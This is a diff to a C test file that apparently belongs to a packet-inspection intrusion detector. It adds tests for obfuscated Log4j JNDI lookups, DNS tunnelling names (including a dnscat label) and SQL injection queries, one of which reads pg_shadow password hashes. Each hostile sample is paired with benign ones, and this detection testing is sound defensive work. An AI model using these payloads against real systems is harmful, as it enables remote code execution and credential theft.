@@ -192,6 +192,12 @@ static const struct pn http_cases[] = {
 	/* a cookie value */
 	{8801004, "GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; id=1%27%20OR%20%271%27%3D%271\r\n\r\n",
 	 "GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; lang=en-US; sid=YWJjZGVmZ2hpams=\r\n\r\n"},
+	/* Log4j lookups that only resolving them shows (the plain "${jndi:" is a
+	 * rule: 8805001..) */
+	{8805900, "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${${lower:j}ndi:${lower:l}dap://x.test/a}\r\n\r\n",
+	 "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${lower:j}ndi is ${env:HOME}\r\n\r\n"},
+	{8805900, "GET /?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Armi%3A%2F%2Fx%2Fa%7D HTTP/1.1\r\nHost: a\r\n\r\n",
+	 "GET /?q=%24%7Bitem.price%7D HTTP/1.1\r\nHost: a\r\n\r\n"},
 	/* http-anomaly */
 	{8808001,
 	 "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
@@ -403,6 +409,120 @@ static void test_dns_anomaly(void)
 	dpi_sigs_free(s);
 }
 
+/* The tunnel heuristic's signatures, one per reason, and names that look
+ * busy but are not tunnels. */
+static void test_dns_tunnel(void)
+{
+	static const struct {
+		uint32_t sid;
+		const char *name;
+		uint16_t qtype;
+	} pos[] = {
+		{8809003, "mzxw6ytboi2dsnrtgu3tsnbsgiztmojqgy4tqmrrg4zdgnbvgy.t.tunnel.test", 16},
+		{8809003, "5fb275da215f69209755e4662eb4a3f3c5ed5df5ca5eaadb84a6cf.tunnel.test", 10},
+		{8809001, "6f8c1d0e9b2a4c7d3e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a7b8c9d.x.tunnel.test", 1},
+		{8809002, "dnscat.7a3f01e2b4c5d6e7f8091a2b.3c4d5e6f708192a3b4c5d6e7.tunnel.test", 1},
+		{8809004, "a1b2c3d4e5.f6a7b8c9d0.e1f2a3b4c5.d6e7f8a9b0.c1d2e3f4a5.b6c7d8e9f0.a1b2c3d4e5."
+			  "f6a7b8c9d0.e1f2a3b4c5.d6e7f8a9b0.tunnel.test", 1},
+	}, neg[] = {
+		{0, "www.example.com", 1},
+		{0, "ec2-54-12-3-4.compute-1.amazonaws.com", 1},
+		{0, "_ldap._tcp.dc._msdcs.corp.example.com", 33},
+		{0, "my-service.my-namespace.svc.cluster.local", 1},
+		{0, "selector1._domainkey.example.com", 16},
+		{0, "thisisaveryveryverylongbutperfectlyreadablesubdomainnameforamarketingcampaign."
+		    "and.another.long.readable.part.of.the.name.example.com", 1},
+	};
+	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
+	uint8_t m[512];
+
+	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
+		struct cap c = dns(s, m, dns_msg(m, 9, false, pos[i].name, pos[i].qtype));
+
+		if (count(&c, pos[i].sid) != 1)
+			fprintf(stderr, "%s: want %u, got %d alerts (first %u)\n", pos[i].name,
+				pos[i].sid, c.n, c.n ? c.sid[0] : 0);
+		CHECK_EQ(count(&c, pos[i].sid), 1);
+		if (index_of(&c, pos[i].sid) >= 0)
+			CHECK(strcmp(c.set[index_of(&c, pos[i].sid)], "dns-tunnel") == 0);
+	}
+	for (size_t i = 0; i < sizeof(neg) / sizeof(neg[0]); i++) {
+		struct cap c = dns(s, m, dns_msg(m, 9, false, neg[i].name, neg[i].qtype));
+
+		CHECK_EQ(c.n, 0);
+	}
+	dpi_sigs_free(s);
+}
+
+/* A PostgreSQL client's startup and one simple Query. */
+static size_t pg_query(uint8_t *out, const char *sql)
+{
+	static const char params[] = "user\0shop\0database\0shop\0";
+	size_t n = 0, plen = sizeof(params), qlen = strlen(sql) + 1;
+	uint32_t len = (uint32_t)(8 + plen);
+
+	out[n++] = (uint8_t)(len >> 24);
+	out[n++] = (uint8_t)(len >> 16);
+	out[n++] = (uint8_t)(len >> 8);
+	out[n++] = (uint8_t)len;
+	memcpy(out + n, "\x00\x03\x00\x00", 4);
+	n += 4;
+	memcpy(out + n, params, plen);
+	n += plen;
+	out[n++] = 'Q';
+	len = (uint32_t)(4 + qlen);
+	out[n++] = (uint8_t)(len >> 24);
+	out[n++] = (uint8_t)(len >> 16);
+	out[n++] = (uint8_t)(len >> 8);
+	out[n++] = (uint8_t)len;
+	memcpy(out + n, sql, qlen);
+	return n + qlen;
+}
+
+static struct cap pg(const struct dpi_sigs *s, const char *sql)
+{
+	struct peer p = web();
+	uint8_t buf[1024];
+	size_t n = pg_query(buf, sql);
+	struct cap c = {0};
+	struct dpi_ops ops = {.record = on_record, .ctx = &c};
+	struct dpi_flow_meta m = {.ipproto = IPPROTO_TCP, .client_port = 41000, .server_port = 5432,
+				  .client_addr = p.client, .server_addr = p.server};
+	struct dpi_worker *w = NULL;
+	struct dpi_flow *f = NULL;
+	uint8_t *g = guard_dup(buf, n);
+
+	CHECK_EQ(dpi_worker_new(&ops, &w), 0);
+	CHECK_EQ(dpi_worker_set_sigs(w, s), 0);
+	dpi_stream(w, &f, &c, &m, 0, g, (uint32_t)n, 0);
+	dpi_flow_end(w, &f, &c);
+	dpi_worker_free(w);
+	guard_free(g, n);
+	return c;
+}
+
+static void test_sql_statement(void)
+{
+	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
+	struct cap c;
+
+	c = pg(s, "SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = 'x'");
+	CHECK_EQ(c.records, 1);
+	CHECK_EQ(count(&c, 8801005), 1);
+	if (index_of(&c, 8801005) >= 0) {
+		CHECK(strcmp(c.field[index_of(&c, 8801005)], "sql.query") == 0);
+		CHECK_EQ(c.tx_type[index_of(&c, 8801005)], BH_EV_SQL);
+	}
+	c = pg(s, "SELECT id FROM items WHERE id = 1 UNION SELECT usename, passwd FROM pg_shadow");
+	CHECK_EQ(count(&c, 8801005), 1);
+	c = pg(s, "SELECT * FROM users WHERE name = 'O''Brien' AND active = true ORDER BY id LIMIT 10");
+	CHECK_EQ(c.records, 1);
+	CHECK_EQ(c.n, 0);
+	c = pg(s, "SELECT * FROM orders WHERE 1=1 AND customer_id = 42");
+	CHECK_EQ(c.n, 0);
+	dpi_sigs_free(s);
+}
+
 /* ---------------------------------------------------------------- engine */
 
 static void test_sets_and_flood(void)
@@ -512,6 +632,8 @@ int main(void)
 	RUN(test_header_limit);
 	RUN(test_excerpt_and_field);
 	RUN(test_dns_anomaly);
+	RUN(test_dns_tunnel);
+	RUN(test_sql_statement);
 	RUN(test_sets_and_flood);
 	RUN(test_custom_rules);
 	return bh_test_summary();
